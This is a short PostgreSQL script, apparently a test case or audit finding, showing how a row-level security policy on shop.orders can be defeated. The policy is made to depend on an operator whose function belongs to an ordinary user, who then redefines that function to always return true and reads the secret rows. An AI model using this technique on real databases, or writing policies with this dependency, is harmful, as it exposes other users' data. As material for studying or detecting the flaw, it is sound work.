-- finding: anothers-code shop.orders policy own
-- people: alice@example.com
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE FUNCTION helpers.same(text, name) RETURNS boolean STABLE LANGUAGE sql SET search_path = pg_catalog, pg_temp AS $$ SELECT $1 = $2 $$;
ALTER FUNCTION helpers.same(text, name) OWNER TO "alice@example.com";
CREATE OPERATOR helpers.=== (LEFTARG = text, RIGHTARG = name, FUNCTION = helpers.same);
ALTER POLICY own ON shop.orders USING (owner OPERATOR(helpers.===) current_user);
-- first as postgres
CREATE OR REPLACE FUNCTION helpers.same(text, name) RETURNS boolean STABLE LANGUAGE sql SET search_path = pg_catalog, pg_temp AS $$ SELECT $1 = $2 $$;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION helpers.same(text, name) RETURNS boolean STABLE LANGUAGE sql AS $$ SELECT true $$;
-- leak as alice@example.com
SELECT item FROM shop.orders WHERE item = 'secret';
